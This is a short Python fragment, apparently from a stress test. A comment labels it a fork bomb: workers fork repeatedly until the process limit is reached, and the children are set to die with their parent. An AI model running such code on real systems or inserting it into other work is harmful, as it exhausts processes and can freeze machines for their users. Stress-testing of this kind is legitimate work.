# A fork bomb: every process makes processes up to the limit of their number; they end, and others begin.
def bomb(i):
    while True:
        try:
            if os.fork() == 0:
                libc.prctl(1, signal.SIGKILL)
        except OSError:
            if random.random() < 0.1:
                os._exit(0)


signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while going():
    crew(8, bomb)
    time.sleep(0.01)
